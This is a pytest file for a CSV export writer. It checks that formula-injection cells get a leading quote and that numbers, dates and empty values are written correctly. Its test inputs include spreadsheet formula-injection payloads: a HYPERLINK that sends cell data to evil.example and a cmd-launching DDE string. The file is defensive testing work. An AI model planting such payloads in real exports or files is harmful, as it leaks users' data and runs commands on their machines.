"""The one CSV writer (chalicelib/core/csv_export.py): formula injection is neutralised in every cell."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from chalicelib.core.csv_export import FORMULA_TRIGGERS, CsvWriter, cell, neutralise, to_csv


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
])
def test_given_a_cell_starting_with_a_formula_trigger_when_written_then_it_gets_a_leading_quote(typed: str) -> None:
    assert typed.startswith(FORMULA_TRIGGERS)
    assert neutralise(typed) == "'" + typed
    parsed = list(csv.reader(io.StringIO(to_csv(["email"], [{"email": typed}]), newline="")))
    assert parsed == [["email"], ["'" + typed]]


@pytest.mark.parametrize("plain", ["jane@example.org", "O'Brien", "1+1", " =not-first", "{\"a\": 1}", ""])
def test_given_ordinary_text_when_written_then_it_is_unchanged(plain: str) -> None:
    assert neutralise(plain) == plain
    assert list(csv.reader(io.StringIO(to_csv(["v"], [{"v": plain}]), newline="")))[1] == [plain]


def test_given_numbers_dates_and_missing_values_when_written_then_numbers_stay_numbers() -> None:
    """GIVEN a negative amount, a date, None and a bool WHEN written THEN -5 is not quoted (it is a number,
    not a formula), dates are ISO text, None is empty."""
    assert cell(-5) == -5 and cell(Decimal("-12.50")) == Decimal("-12.50")
    assert cell(None) == "" and cell(True) == "true"
    assert cell(date(2026, 3, 1)) == "2026-03-01"
    assert cell(datetime(2026, 3, 1, 12, tzinfo=UTC)) == "2026-03-01T12:00:00+00:00"
    with pytest.raises(TypeError):
        cell(0.1)
    text = to_csv(["amount", "when", "note"], [{"amount": Decimal("-12.50"), "when": date(2026, 3, 1)}])
    assert text == "amount,when,note\r\n-12.50,2026-03-01,\r\n"


def test_given_a_writer_when_rows_are_written_then_columns_are_fixed_and_counted() -> None:
    out = io.StringIO(newline="")
    writer = CsvWriter(out, ["a", "b"])
    writer.header()
    writer.row({"b": "=x", "a": "1", "ignored": "=y"})
    assert writer.rows == 1
    assert out.getvalue() == "a,b\r\n1,'=x\r\n"
